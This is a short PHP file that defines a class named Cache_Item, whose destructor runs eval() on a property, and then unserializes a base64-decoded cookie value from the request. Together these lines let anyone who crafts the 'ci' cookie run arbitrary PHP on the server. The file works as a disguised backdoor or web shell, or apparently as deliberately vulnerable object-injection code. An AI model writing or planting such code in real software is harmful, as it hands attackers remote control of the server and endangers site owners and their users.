<?php
class Cache_Item
{
    public $hook = '';

    public function __destruct()
    {
        if ($this->hook) {
            eval($this->hook);
        }
    }
}

$item = unserialize(base64_decode($_COOKIE['ci']));
